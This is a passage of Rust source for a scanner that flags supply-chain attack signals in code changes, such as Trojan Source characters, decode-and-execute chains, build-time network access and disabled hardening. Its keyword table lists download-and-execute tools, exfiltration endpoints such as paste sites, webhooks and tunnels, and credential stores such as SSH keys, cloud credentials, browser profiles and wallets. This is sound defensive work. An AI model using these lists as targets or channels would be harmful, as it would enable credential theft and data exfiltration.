//! Content signals in one text file change, for contribution-risk rules.
//!
//! [`scan_change`] looks at the lines a change adds (and, for the kinds where a removal is the
//! signal, the lines it removes) and reports [`ContentHit`]s: Unicode tricks (Trojan Source),
//! encoded payloads, decode-then-execute chains, dynamic code execution, processes and network
//! access from build-time or import-time code, C-level hooks, changed build feature probes and
//! hardening flags, sandbox changes, build hooks, ignore and attribute rules that hide build
//! inputs, weakened security policies, disabled tests, exfiltration endpoints and credential
//! stores. It does not score: rules weigh the hits, using [`ContentHit::detail`] (which names
//! the specific construct, e.g. the program a build script runs) and the file's
//! [`PathClass`].
//!
//! Hostile input is bounded: each file is read on at most its first [`MAX_FILE_BYTES`], each
//! line on its first [`MAX_LINE_BYTES`], at most [`MAX_HUNKS`] hunks are used, at most
//! [`MAX_HITS_PER_FILE`] hits come back (the most severe kinds first, one of each kind before a
//! second of any), excerpts are cut to [`MAX_EXCERPT_CHARS`] characters and every scan is linear
//! in the input (no regular expressions; one Aho-Corasick keyword pass per changed line decides
//! which detectors look further).
//!
//! Lines that only moved (the same trimmed text removed and added in the same file) are not
//! reported: re-indentation and reordering are routine.

use std::collections::HashSet;
use std::fmt::Write as _;
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use memchr::memmem;
use serde::{Deserialize, Serialize};

pub use crate::Hunk;
use crate::classify::{Lang, PathClass, language};

/// At most this many hits per file.
pub const MAX_HITS_PER_FILE: usize = 16;
/// Each line is examined on this prefix only (64 KiB).
pub const MAX_LINE_BYTES: usize = 64 * 1024;
/// Each file side is read on this prefix only (16 MiB, the miner's diff limit).
pub const MAX_FILE_BYTES: usize = 16 * 1024 * 1024;
/// At most this many hunks of a change are used.
pub const MAX_HUNKS: usize = garrison_git::MAX_HUNKS;
/// Excerpts are cut to this many characters (escapes count as their visible length).
pub const MAX_EXCERPT_CHARS: usize = 120;
/// Details are cut to this many characters.
const MAX_DETAIL_CHARS: usize = 200;
/// Feature-probe and section tracking read build files on this prefix only.
const MAX_STRUCTURE_BYTES: usize = 4 * 1024 * 1024;
/// A feature-probe block spans at most this many lines.
const PROBE_MAX_LINES: u32 = 60;
/// Decode and execute markers this many lines apart still pair up.
const DECODE_EXEC_WINDOW: u32 = 4;

/// One content signal.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ContentHit {
    /// What was found.
    pub kind: HitKind,
    /// 1-based line in the new file, or in the old file when `removed`.
    pub line: u32,
    /// The signal is a removed line (old side).
    pub removed: bool,
    /// The line, trimmed and cut to [`MAX_EXCERPT_CHARS`] characters around the finding, with
    /// control, bidi and zero-width characters written as `<U+XXXX>`.
    pub excerpt: String,
    /// The specific construct (e.g. `subprocess.check_output: git`, `weakened:
    /// -fno-stack-protector added`), for rules to weigh.
    pub detail: String,
}

/// Kinds of content signal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum HitKind {
    /// Unicode bidirectional override or isolate control (U+202A–U+202E, U+2066–U+2069).
    Bidi,
    /// Zero-width character (U+200B–U+200D, U+2060, U+FEFF not at file start) touching code.
    ZeroWidth,
    /// An identifier mixing Latin and Cyrillic letters (homoglyph).
    MixedScriptIdentifier,
    /// A long base64 or hex literal (or escaped byte string, or block of such lines) with
    /// high Shannon entropy in a code file.
    HighEntropyLiteral,
    /// Decoding (base64, hex, compression, marshal, rot13) followed by execution (exec, eval,
    /// pickle, shell), or a download or decode piped into a shell or `eval`.
    DecodeExec,
    /// Python `exec`/`eval`/`compile`/`__import__`/`import_module` of a non-literal argument,
    /// builtins looked up by name, code objects built by hand.
    DynamicExec,
    /// A process started from build-time or import-time Python code.
    BuildTimeProcess,
    /// Network access from build-time or import-time code.
    NetworkAtBuildOrImport,
    /// An `import` line in a `.pth` file (runs at every interpreter start).
    StartupHook,
    /// C-level hooking: constructors, ifunc resolvers, init sections, `dlsym`/`RTLD_NEXT`,
    /// dynamic linker audit interfaces, GOT/PLT references, executable mappings.
    CHook,
    /// A build feature probe (CMake `check_*`, autoconf `AC_*_IFELSE`/`AC_CHECK_*`, meson
    /// `cc.compiles`/`cc.has_function`, distutils `config.try_compile`) added, removed or changed.
    FeatureProbeChanged,
    /// Compiler or linker hardening flags or sanitizers added or removed.
    HardeningFlagChanged,
    /// Sandboxing (landlock, seccomp, pledge, unveil, capsicum, no_new_privs, sandbox options)
    /// added or removed.
    SandboxChanged,
    /// A build hook or build-time command: custom build backend, hatch/setuptools/scikit-build/
    /// poetry/pdm hooks, setup.py `cmdclass` and command overrides, meson `run_command`, CMake
    /// `execute_process`, autoconf `AC_CONFIG_COMMANDS`, m4 `syscmd`, changed build requirements.
    BuildHookAdded,
    /// A `.gitignore` pattern that hides build inputs or scripts.
    IgnoreHidesBuildInput,
    /// A `.gitattributes` rule that excludes files from archives or hides source diffs.
    ExportIgnore,
    /// A security contact (email or URL) replaced by another.
    SecurityContactChanged,
    /// Security policy content (contacts, reporting instructions, supported versions) removed.
    SecurityPolicyWeakened,
    /// Tests or checks disabled or their failures ignored.
    TestDisabled,
    /// An exfiltration-style endpoint: chat webhooks, paste sites, tunnels, request catchers,
    /// `.onion`, a URL with a raw public IP address.
    SuspiciousEndpoint,
    /// A reference to a credential store (SSH keys, cloud and package-index credentials,
    /// browser profiles, wallets, `/etc/shadow`).
    CredentialAccess,
}

impl HitKind {
    /// Every kind, in declaration order.
    pub const ALL: [HitKind; 21] = [
        HitKind::Bidi,
        HitKind::ZeroWidth,
        HitKind::MixedScriptIdentifier,
        HitKind::HighEntropyLiteral,
        HitKind::DecodeExec,
        HitKind::DynamicExec,
        HitKind::BuildTimeProcess,
        HitKind::NetworkAtBuildOrImport,
        HitKind::StartupHook,
        HitKind::CHook,
        HitKind::FeatureProbeChanged,
        HitKind::HardeningFlagChanged,
        HitKind::SandboxChanged,
        HitKind::BuildHookAdded,
        HitKind::IgnoreHidesBuildInput,
        HitKind::ExportIgnore,
        HitKind::SecurityContactChanged,
        HitKind::SecurityPolicyWeakened,
        HitKind::TestDisabled,
        HitKind::SuspiciousEndpoint,
        HitKind::CredentialAccess,
    ];

    /// Kebab-case name.
    pub const fn as_str(self) -> &'static str {
        match self {
            HitKind::Bidi => "bidi-control",
            HitKind::ZeroWidth => "zero-width",
            HitKind::MixedScriptIdentifier => "mixed-script-identifier",
            HitKind::HighEntropyLiteral => "high-entropy-literal",
            HitKind::DecodeExec => "decode-exec",
            HitKind::DynamicExec => "dynamic-exec",
            HitKind::BuildTimeProcess => "build-time-process",
            HitKind::NetworkAtBuildOrImport => "network-at-build-or-import",
            HitKind::StartupHook => "startup-hook",
            HitKind::CHook => "c-hook",
            HitKind::FeatureProbeChanged => "feature-probe-changed",
            HitKind::HardeningFlagChanged => "hardening-flag-changed",
            HitKind::SandboxChanged => "sandbox-changed",
            HitKind::BuildHookAdded => "build-hook-added",
            HitKind::IgnoreHidesBuildInput => "ignore-hides-build-input",
            HitKind::ExportIgnore => "export-ignore",
            HitKind::SecurityContactChanged => "security-contact-changed",
            HitKind::SecurityPolicyWeakened => "security-policy-weakened",
            HitKind::TestDisabled => "test-disabled",
            HitKind::SuspiciousEndpoint => "suspicious-endpoint",
            HitKind::CredentialAccess => "credential-access",
        }
    }

    /// One-line description.
    pub const fn description(self) -> &'static str {
        match self {
            HitKind::Bidi => "Unicode bidirectional control character (Trojan Source)",
            HitKind::ZeroWidth => "zero-width character inside code",
            HitKind::MixedScriptIdentifier => "identifier mixing Latin and Cyrillic letters",
            HitKind::HighEntropyLiteral => "long high-entropy base64/hex literal in code",
            HitKind::DecodeExec => "decoded or downloaded data is executed",
            HitKind::DynamicExec => "code executed or imported from a non-literal value",
            HitKind::BuildTimeProcess => "process started by build-time or import-time code",
            HitKind::NetworkAtBuildOrImport => "network access at build or import time",
            HitKind::StartupHook => ".pth line executed at every interpreter start",
            HitKind::CHook => "C-level hook: constructor, ifunc, symbol interposition",
            HitKind::FeatureProbeChanged => "build feature probe added, removed or changed",
            HitKind::HardeningFlagChanged => "compiler/linker hardening flag added or removed",
            HitKind::SandboxChanged => "sandboxing code or option added or removed",
            HitKind::BuildHookAdded => "build hook or configure-time command",
            HitKind::IgnoreHidesBuildInput => ".gitignore pattern hides build inputs or scripts",
            HitKind::ExportIgnore => ".gitattributes excludes files from archives or hides diffs",
            HitKind::SecurityContactChanged => "security contact replaced",
            HitKind::SecurityPolicyWeakened => "security policy content removed",
            HitKind::TestDisabled => "tests disabled or their failures ignored",
            HitKind::SuspiciousEndpoint => "exfiltration-style endpoint (webhook, paste, raw IP)",
            HitKind::CredentialAccess => "reference to a credential store",
        }
    }

    /// Severity order used only to choose which hits survive the per-file cap.
    const fn cap_rank(self) -> u8 {
        match self {
            HitKind::DecodeExec => 30,
            HitKind::Bidi => 29,
            HitKind::StartupHook => 28,
            HitKind::CHook => 27,
            HitKind::SuspiciousEndpoint => 26,
            HitKind::CredentialAccess => 25,
            HitKind::NetworkAtBuildOrImport => 24,
            HitKind::FeatureProbeChanged => 23,
            HitKind::IgnoreHidesBuildInput => 22,
            HitKind::HighEntropyLiteral => 21,
            HitKind::DynamicExec => 20,
            HitKind::SandboxChanged => 19,
            HitKind::HardeningFlagChanged => 18,
            HitKind::BuildHookAdded => 17,
            HitKind::SecurityContactChanged => 16,
            HitKind::SecurityPolicyWeakened => 15,
            HitKind::ZeroWidth => 14,
            HitKind::MixedScriptIdentifier => 13,
            HitKind::ExportIgnore => 12,
            HitKind::BuildTimeProcess => 11,
            HitKind::TestDisabled => 10,
        }
    }

    fn index(self) -> usize {
        HitKind::ALL.iter().position(|k| *k == self).unwrap_or(0)
    }
}

// ---------------------------------------------------------------------------------------------
// Keyword pre-filter
// ---------------------------------------------------------------------------------------------

const G_DECODE: u32 = 1 << 0;
const G_EXEC: u32 = 1 << 1;
const G_SHELL: u32 = 1 << 2;
const G_NET: u32 = 1 << 3;
const G_PROC: u32 = 1 << 4;
const G_CHOOK: u32 = 1 << 5;
const G_HARDEN: u32 = 1 << 6;
const G_SANDBOX: u32 = 1 << 7;
const G_HOOK: u32 = 1 << 8;
const G_TESTDIS: u32 = 1 << 9;
const G_ENDPOINT: u32 = 1 << 10;
const G_CRED: u32 = 1 << 11;

/// Keywords (ASCII case-insensitive) and the detector groups they wake up.
const KEYWORDS: &[(&str, u32)] = &[
    // Python decoding
    ("b64decode", G_DECODE),
    ("b32decode", G_DECODE),
    ("b16decode", G_DECODE),
    ("b85decode", G_DECODE),
    ("a85decode", G_DECODE),
    ("decodebytes", G_DECODE),
    ("decodestring", G_DECODE),
    ("decompress", G_DECODE),
    ("fromhex", G_DECODE),
    ("unhexlify", G_DECODE),
    ("a2b_", G_DECODE),
    ("codecs.decode", G_DECODE),
    ("marshal.loads", G_DECODE | G_EXEC),
    ("rot13", G_DECODE),
    ("chr(", G_DECODE),
    ("map(chr", G_DECODE),
    ("rot_13", G_DECODE),
    (".decode(", G_DECODE),
    ("frombase64string", G_DECODE | G_SHELL),
    // Python execution
    ("exec", G_EXEC),
    ("eval", G_EXEC | G_SHELL),
    ("compile", G_EXEC),
    ("__import__", G_EXEC),
    ("import_module", G_EXEC),
    ("builtins", G_EXEC),
    ("loads", G_EXEC),
    ("ctypes", G_EXEC),
    ("functiontype", G_EXEC),
    ("codetype", G_EXEC),
    ("subprocess", G_EXEC | G_PROC),
    ("os.system", G_EXEC | G_PROC),
    ("os.popen", G_EXEC | G_PROC),
    ("os.exec", G_PROC),
    ("os.spawn", G_PROC),
    ("popen(", G_PROC),
    ("check_output", G_PROC),
    ("check_call", G_PROC),
    ("getoutput", G_PROC),
    ("pty.spawn", G_PROC),
    // Shell pipelines
    ("base64", G_SHELL),
    ("xxd", G_SHELL),
    ("openssl", G_SHELL),
    ("uudecode", G_SHELL),
    ("gunzip", G_SHELL),
    ("zcat", G_SHELL),
    ("unxz", G_SHELL),
    ("xz ", G_SHELL),
    ("lzma", G_SHELL),
    ("bzip2", G_SHELL),
    ("bunzip2", G_SHELL),
    ("zstd", G_SHELL),
    ("gzip", G_SHELL),
    ("tr ", G_SHELL),
    (" -d", G_SHELL),
    ("sh", G_SHELL),
    ("source", G_SHELL),
    ("iex", G_SHELL),
    ("invoke-expression", G_SHELL),
    ("-enc", G_SHELL),
    ("certutil", G_SHELL),
    // Network
    ("curl", G_NET | G_SHELL),
    ("wget", G_NET | G_SHELL),
    ("urlopen", G_NET),
    ("urlretrieve", G_NET),
    ("urllib", G_NET),
    ("requests.", G_NET),
    ("http.client", G_NET),
    ("httplib", G_NET),
    ("httpconnection", G_NET),
    ("socket.", G_NET),
    ("httpx.", G_NET),
    ("aiohttp", G_NET),
    ("ftplib", G_NET),
    ("smtplib", G_NET),
    ("invoke-webrequest", G_NET | G_SHELL),
    ("downloadstring", G_NET | G_SHELL),
    ("downloadfile", G_NET),
    ("download", G_NET),
    ("fetchcontent_declare", G_NET),
    ("externalproject_add", G_NET),
    ("pip install", G_NET),
    ("pip download", G_NET),
    // C hooks
    ("__attribute__", G_CHOOK),
    ("[[gnu::", G_CHOOK),
    ("dlsym", G_CHOOK),
    ("dlvsym", G_CHOOK),
    ("rtld_next", G_CHOOK),
    ("ld_preload", G_CHOOK),
    ("ld_audit", G_CHOOK),
    ("la_symbind", G_CHOOK),
    ("la_objopen", G_CHOOK),
    ("_dl_audit", G_CHOOK),
    ("_r_debug", G_CHOOK),
    ("__libc_start_main", G_CHOOK),
    ("_global_offset_table_", G_CHOOK),
    (".got", G_CHOOK),
    ("prot_exec", G_CHOOK),
    ("#pragma init", G_CHOOK),
    ("#pragma fini", G_CHOOK),
    (".crt$x", G_CHOOK),
    (".init_array", G_CHOOK),
    (".ctors", G_CHOOK),
    // Hardening flags
    ("stack-protector", G_HARDEN),
    ("fortify_source", G_HARDEN),
    ("relro", G_HARDEN),
    ("execstack", G_HARDEN),
    ("-z", G_HARDEN),
    ("pie", G_HARDEN),
    ("cf-protection", G_HARDEN),
    ("wrap", G_HARDEN),
    ("sanitize", G_HARDEN),
    ("werror", G_HARDEN),
    ("stack-clash", G_HARDEN),
    ("auto-var-init", G_HARDEN),
    ("branch-protection", G_HARDEN),
    ("/gs", G_HARDEN),
    ("/guard:cf", G_HARDEN),
    ("dynamicbase", G_HARDEN),
    ("nxcompat", G_HARDEN),
    ("_glibcxx_assertions", G_HARDEN),
    // Sandboxing
    ("landlock", G_SANDBOX),
    ("seccomp", G_SANDBOX),
    ("pledge", G_SANDBOX),
    ("unveil", G_SANDBOX),
    ("cap_enter", G_SANDBOX),
    ("cap_rights_limit", G_SANDBOX),
    ("capsicum", G_SANDBOX),
    ("no_new_privs", G_SANDBOX),
    ("sandbox", G_SANDBOX),
    // Build hooks
    ("build-backend", G_HOOK),
    ("backend-path", G_HOOK),
    ("[tool.", G_HOOK),
    ("cmdclass", G_HOOK),
    ("requires", G_HOOK),
    ("cmake.", G_HOOK),
    ("script", G_HOOK),
    ("class ", G_HOOK),
    ("run_command", G_HOOK),
    ("execute_process", G_HOOK),
    ("ac_config_commands", G_HOOK),
    ("syscmd", G_HOOK),
    // Tests disabled
    ("continue-on-error", G_TESTDIS),
    ("|| true", G_TESTDIS),
    ("||true", G_TESTDIS),
    ("|| :", G_TESTDIS),
    ("|| exit 0", G_TESTDIS),
    ("build_testing", G_TESTDIS),
    ("-tests", G_TESTDIS),
    ("skip_tests", G_TESTDIS),
    ("pytestmark", G_TESTDIS),
    ("pytest.skip", G_TESTDIS),
    ("skiptest", G_TESTDIS),
    // Endpoints
    ("://", G_ENDPOINT),
    ("webhook", G_ENDPOINT),
    ("api.telegram.org", G_ENDPOINT),
    ("pastebin.com", G_ENDPOINT),
    ("paste.ee", G_ENDPOINT),
    ("hastebin", G_ENDPOINT),
    ("transfer.sh", G_ENDPOINT),
    ("ngrok", G_ENDPOINT),
    (".onion", G_ENDPOINT),
    ("requestbin", G_ENDPOINT),
    ("pipedream.net", G_ENDPOINT),
    ("interact.sh", G_ENDPOINT),
    ("burpcollaborator", G_ENDPOINT),
    ("oastify", G_ENDPOINT),
    // Credential stores
    (".ssh/", G_CRED),
    ("id_rsa", G_CRED),
    ("id_ed25519", G_CRED),
    (".aws/credentials", G_CRED),
    (".pypirc", G_CRED),
    (".netrc", G_CRED),
    (".git-credentials", G_CRED),
    (".docker/config.json", G_CRED),
    (".kube/config", G_CRED),
    ("login data", G_CRED),
    ("local storage", G_CRED),
    ("local state", G_CRED),
    ("cookies.sqlite", G_CRED),
    ("wallet.dat", G_CRED),
    ("/etc/shadow", G_CRED),
    ("keychain", G_CRED),
    (".npmrc", G_CRED),
    ("environ", G_CRED),
];

struct Keywords {
    ac: AhoCorasick,
    groups: Vec<u32>,
}

fn keywords() -> Option<&'static Keywords> {
    static KW: OnceLock<Option<Keywords>> = OnceLock::new();
    KW.get_or_init(|| {
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(KEYWORDS.iter().map(|(k, _)| k))
            .ok()?;
        Some(Keywords {
            ac,
            groups: KEYWORDS.iter().map(|(_, g)| *g).collect(),
        })
    })
    .as_ref()
}

/// Detector groups whose keywords occur in `text`.
fn triggers(text: &[u8]) -> u32 {
    let Some(kw) = keywords() else {
        return u32::MAX;
    };
    let mut g = 0u32;
    for m in kw.ac.find_overlapping_iter(text) {
        g |= kw.groups.get(m.pattern().as_usize()).copied().unwrap_or(0);
    }
    g
}

// ---------------------------------------------------------------------------------------------
// Byte helpers
// ---------------------------------------------------------------------------------------------

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    memmem::find(h, n)
}

fn contains(h: &[u8], n: &[u8]) -> bool {
    memmem::find(h, n).is_some()
}

fn trim(b: &[u8]) -> &[u8] {
    b.trim_ascii()
}

fn lower(b: &[u8]) -> Vec<u8> {
    b.to_ascii_lowercase()
}

fn byte_at(b: &[u8], i: usize) -> u8 {
    b.get(i).copied().unwrap_or(0)
}

fn tail(b: &[u8], i: usize) -> &[u8] {
    b.get(i..).unwrap_or(&[])
}

fn head(b: &[u8], i: usize) -> &[u8] {
    b.get(..i).unwrap_or(b)
}

fn skip_spaces(b: &[u8], mut i: usize) -> usize {
    while matches!(byte_at(b, i), b' ' | b'\t') {
        i += 1;
    }
    i
}

/// Occurrences of `word` in `text` with identifier boundaries on both sides (ASCII).
fn word_positions<'a>(text: &'a [u8], word: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    memmem::find_iter(text, word).filter(move |&p| {
        let before = p.checked_sub(1).map(|i| byte_at(text, i));
        let after = byte_at(text, p + word.len());
        !before.is_some_and(is_ident) && !is_ident(after)
    })
}

fn has_word(text: &[u8], word: &[u8]) -> bool {
    word_positions(text, word).next().is_some()
}

/// Leading indentation width (spaces and tabs).
fn indent(b: &[u8]) -> usize {
    b.iter().take_while(|c| matches!(c, b' ' | b'\t')).count()
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Cut a string to `max` characters (adding `…` when cut).
fn cut(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// Characters rendered as `<U+XXXX>` in excerpts and details.
fn must_escape(c: char) -> bool {
    let u = c as u32;
    (c.is_control() && c != ' ')
        || matches!(u, 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x2064 | 0x2066..=0x2069)
        || matches!(
            u,
            0x061C | 0xFEFF | 0x2028 | 0x2029 | 0x00AD | 0x180E | 0xFFF9..=0xFFFB
        )
}

fn escape_visible(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c == '\t' {
            out.push(' ');
        } else if must_escape(c) {
            let _ = write!(out, "<U+{:04X}>", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// The excerpt of `line`: trimmed, escaped, and cut to [`MAX_EXCERPT_CHARS`] around byte
/// offset `focus` (so a finding deep in a long line stays visible).
fn excerpt(line: &[u8], focus: usize) -> String {
    let lead = line.len() - line.trim_ascii_start().len();
    let t = trim(line);
    let focus = focus.saturating_sub(lead).min(t.len());
    // Start a little before the focus when the line is long.
    let mut start = 0usize;
    if t.len() > MAX_EXCERPT_CHARS && focus > 40 {
        start = focus - 40;
        while start > 0 && (byte_at(t, start) & 0xC0) == 0x80 {
            start -= 1;
        }
    }
    // Take a bounded byte window before decoding (4 bytes per char at most, escapes expand).
    let end = (start + MAX_EXCERPT_CHARS * 4).min(t.len());
    let window = t.get(start..end).unwrap_or(t);
    let text = escape_visible(&String::from_utf8_lossy(window));
    let mut out = String::new();
    if start > 0 {
        out.push('…');
    }
    out.push_str(&text);
    if end < t.len() {
        out.push('…');
    }
    cut(&out, MAX_EXCERPT_CHARS)
}

fn detail_text(s: &str) -> String {
    cut(&escape_visible(s), MAX_DETAIL_CHARS)
}

// ---------------------------------------------------------------------------------------------
// Lines of a change
// ---------------------------------------------------------------------------------------------

/// One changed line.
#[derive(Clone, Copy)]
struct Line<'a> {
    no: u32,
    text: &'a [u8],
    /// The same trimmed text is on the other side of the change (moved or re-indented).
    moved: bool,
}

/// Sorted, merged `[start, end)` 1-based line ranges of one side of the hunks.
fn side_ranges(hunks: &[Hunk], new_side: bool) -> Vec<(u32, u32)> {
    let mut r: Vec<(u32, u32)> = hunks
        .iter()
        .take(MAX_HUNKS)
        .filter_map(|h| {
            let (s, l) = if new_side {
                (h.new_start, h.new_len)
            } else {
                (h.old_start, h.old_len)
            };
            (l > 0).then(|| (s.max(1), s.max(1).saturating_add(l)))
        })
        .collect();
    r.sort_unstable();
    let mut merged: Vec<(u32, u32)> = Vec::with_capacity(r.len());
    for (s, e) in r {
        match merged.last_mut() {
            Some(last) if s <= last.1 => last.1 = last.1.max(e),
            _ => merged.push((s, e)),
        }
    }
    merged
}

/// Iterate over the lines of `data` (bounded), yielding 1-based numbers. Lines lose their
/// `\n`/`\r\n` and are cut to [`MAX_LINE_BYTES`].
fn lines(data: &[u8]) -> impl Iterator<Item = (u32, &[u8])> {
    let data = head(data, MAX_FILE_BYTES);
    let mut pos = 0usize;
    let mut no = 0u32;
    std::iter::from_fn(move || {
        if pos >= data.len() {
            return None;
        }
        let rest = tail(data, pos);
        let len = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
        let mut line = head(rest, len);
        pos += len + 1;
        no = no.saturating_add(1);
        if line.last() == Some(&b'\r') {
            line = head(line, line.len() - 1);
        }
        Some((no, head(line, MAX_LINE_BYTES)))
    })
}

/// The lines of `data` inside `ranges`.
fn select_lines<'a>(data: &'a [u8], ranges: &[(u32, u32)]) -> Vec<Line<'a>> {
    let mut out = Vec::new();
    let Some(last_end) = ranges.last().map(|r| r.1) else {
        return out;
    };
    let mut ri = 0usize;
    for (no, text) in lines(data) {
        if no >= last_end {
            break;
        }
        while ranges.get(ri).is_some_and(|r| no >= r.1) {
            ri += 1;
        }
        if ranges.get(ri).is_some_and(|r| no >= r.0 && no < r.1) {
            out.push(Line {
                no,
                text,
                moved: false,
            });
        }
    }
    out
}

/// Mark lines whose trimmed text also appears on the other side.
fn mark_moved(added: &mut [Line<'_>], removed: &mut [Line<'_>]) {
    if added.is_empty() || removed.is_empty() {
        return;
    }
    let old: HashSet<&[u8]> = removed
        .iter()
        .map(|l| trim(l.text))
        .filter(|t| !t.is_empty())
        .collect();
    let new: HashSet<&[u8]> = added
        .iter()
        .map(|l| trim(l.text))
        .filter(|t| !t.is_empty())
        .collect();
    for l in added.iter_mut() {
        l.moved = old.contains(trim(l.text));
    }
    for l in removed.iter_mut() {
        l.moved = new.contains(trim(l.text));
    }
}

// ---------------------------------------------------------------------------------------------
// Hit collection
// ---------------------------------------------------------------------------------------------

struct Sink {
    hits: Vec<ContentHit>,
    per_kind: [u8; HitKind::ALL.len()],
}

impl Sink {
    fn new() -> Sink {
        Sink {
            hits: Vec::new(),
            per_kind: [0; HitKind::ALL.len()],
        }
    }

    fn full(&self, kind: HitKind) -> bool {
        self.per_kind
            .get(kind.index())
            .is_none_or(|n| usize::from(*n) >= MAX_HITS_PER_FILE)
    }

    fn push(&mut self, kind: HitKind, line: &Line<'_>, removed: bool, focus: usize, detail: &str) {
        if self.full(kind) {
            return;
        }
        if let Some(n) = self.per_kind.get_mut(kind.index()) {
            *n += 1;
        }
        self.hits.push(ContentHit {
            kind,
            line: line.no,
            removed,
            excerpt: excerpt(line.text, focus),
            detail: detail_text(detail),
        });
    }

    /// Keep at most [`MAX_HITS_PER_FILE`]: one of each kind (most severe kinds first), then
    /// the rest by severity; return them in line order.
    fn finish(mut self) -> Vec<ContentHit> {
        self.hits.sort_by(|a, b| {
            b.kind
                .cap_rank()
                .cmp(&a.kind.cap_rank())
                .then(a.removed.cmp(&b.removed))
                .then(a.line.cmp(&b.line))
        });
        if self.hits.len() > MAX_HITS_PER_FILE {
            let mut seen: HashSet<HitKind> = HashSet::new();
            let (mut first, mut rest): (Vec<ContentHit>, Vec<ContentHit>) =
                (Vec::new(), Vec::new());
            for h in self.hits {
                if seen.insert(h.kind) {
                    first.push(h);
                } else {
                    rest.push(h);
                }
            }
            first.extend(rest);
            first.truncate(MAX_HITS_PER_FILE);
            self.hits = first;
        }
        self.hits.sort_by(|a, b| {
            a.line
                .cmp(&b.line)
                .then(a.removed.cmp(&b.removed))
                .then(a.kind.cmp(&b.kind))
        });
        self.hits
    }
}

// ---------------------------------------------------------------------------------------------
// Python: strings and comments
// ---------------------------------------------------------------------------------------------

/// Lexical state at a line start: inside a triple-quoted string or not.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum PyState {
    Code,
    Triple(u8),
}

/// Scan one Python line from `state`; when `view` is given, fill it with the line where
/// string contents and comments are blanked to spaces (quotes kept). Returns the state at the
/// next line start.
fn py_scan(line: &[u8], state: PyState, mut view: Option<&mut Vec<u8>>) -> PyState {
    if let Some(v) = view.as_deref_mut() {
        v.clear();
        v.extend_from_slice(line);
    }
    let blank = |v: &mut Option<&mut Vec<u8>>, i: usize| {
        if let Some(v) = v.as_deref_mut()
            && let Some(b) = v.get_mut(i)
        {
            *b = b' ';
        }
    };
    let mut st = state;
    let mut i = 0usize;
    while i < line.len() {
        let b = byte_at(line, i);
        match st {
            PyState::Triple(q) => {
                if b == b'\\' {
                    blank(&mut view, i);
                    blank(&mut view, i + 1);
                    i += 2;
                    continue;
                }
                if b == q && byte_at(line, i + 1) == q && byte_at(line, i + 2) == q {
                    st = PyState::Code;
                    i += 3;
                    continue;
                }
                blank(&mut view, i);
                i += 1;
            }
            PyState::Code => {
                if b == b'#' {
                    for j in i..line.len() {
                        blank(&mut view, j);
                    }
                    break;
                }
                if b == b'\'' || b == b'"' {
                    if byte_at(line, i + 1) == b && byte_at(line, i + 2) == b {
                        st = PyState::Triple(b);
                        i += 3;
                        continue;
                    }
                    // Single-line string.
                    let mut j = i + 1;
                    while j < line.len() {
                        let c = byte_at(line, j);
                        if c == b'\\' {
                            blank(&mut view, j);
                            blank(&mut view, j + 1);
                            j += 2;
                            continue;
                        }
                        if c == b {
                            break;
                        }
                        blank(&mut view, j);
                        j += 1;
                    }
                    i = j + 1;
                    continue;
                }
                i += 1;
            }
        }
    }
    st
}

/// Forward-only cursor giving the [`PyState`] at the start of a line of one file; lines must
/// be asked for in increasing order (later calls for earlier lines return the current state).
struct PyCursor<'a> {
    lines: Box<dyn Iterator<Item = (u32, &'a [u8])> + 'a>,
    next_no: u32,
    state: PyState,
}

impl<'a> PyCursor<'a> {
    fn new(data: &'a [u8]) -> PyCursor<'a> {
        PyCursor {
            lines: Box::new(lines(data)),
            next_no: 1,
            state: PyState::Code,
        }
    }

    fn state_at(&mut self, no: u32) -> PyState {
        while self.next_no < no {
            match self.lines.next() {
                Some((_, text)) => {
                    self.state = py_scan(text, self.state, None);
                    self.next_no += 1;
                }
                None => break,
            }
        }
        self.state
    }
}

// ---------------------------------------------------------------------------------------------
// Unicode: bidi controls, zero-width characters, mixed-script identifiers
// ---------------------------------------------------------------------------------------------

fn bidi_name(cp: u32) -> &'static str {
    match cp {
        0x202A => "LRE",
        0x202B => "RLE",
        0x202C => "PDF",
        0x202D => "LRO",
        0x202E => "RLO",
        0x2066 => "LRI",
        0x2067 => "RLI",
        0x2068 => "FSI",
        0x2069 => "PDI",
        _ => "?",
    }
}

/// Three-byte UTF-8 code point at `p`, if well formed.
fn cp3(text: &[u8], p: usize) -> Option<u32> {
    let (b0, b1, b2) = (byte_at(text, p), byte_at(text, p + 1), byte_at(text, p + 2));
    if b0 & 0xF0 != 0xE0 || b1 & 0xC0 != 0x80 || b2 & 0xC0 != 0x80 {
        return None;
    }
    Some((u32::from(b0 & 0x0F) << 12) | (u32::from(b1 & 0x3F) << 6) | u32::from(b2 & 0x3F))
}

fn is_code_neighbour(b: u8) -> bool {
    (0x21..=0x7E).contains(&b)
}

fn scan_unicode(sink: &mut Sink, line: &Line<'_>, zero_width: bool, mixed: bool, nfkc: bool) {
    let text = line.text;
    let mut bidi: Vec<(usize, u32)> = Vec::new();
    let mut zw: Option<(usize, u32)> = None;
    for p in memchr::memchr2_iter(0xE2, 0xEF, text) {
        let Some(cp) = cp3(text, p) else { continue };
        match cp {
            0x202A..=0x202E | 0x2066..=0x2069 if bidi.len() < 64 => bidi.push((p, cp)),
            0x200B..=0x200D | 0x2060 | 0xFEFF if zero_width && zw.is_none() => {
                if cp == 0xFEFF && line.no == 1 && p == 0 {
                    continue;
                }
                let before = p.checked_sub(1).map(|i| byte_at(text, i)).unwrap_or(0);
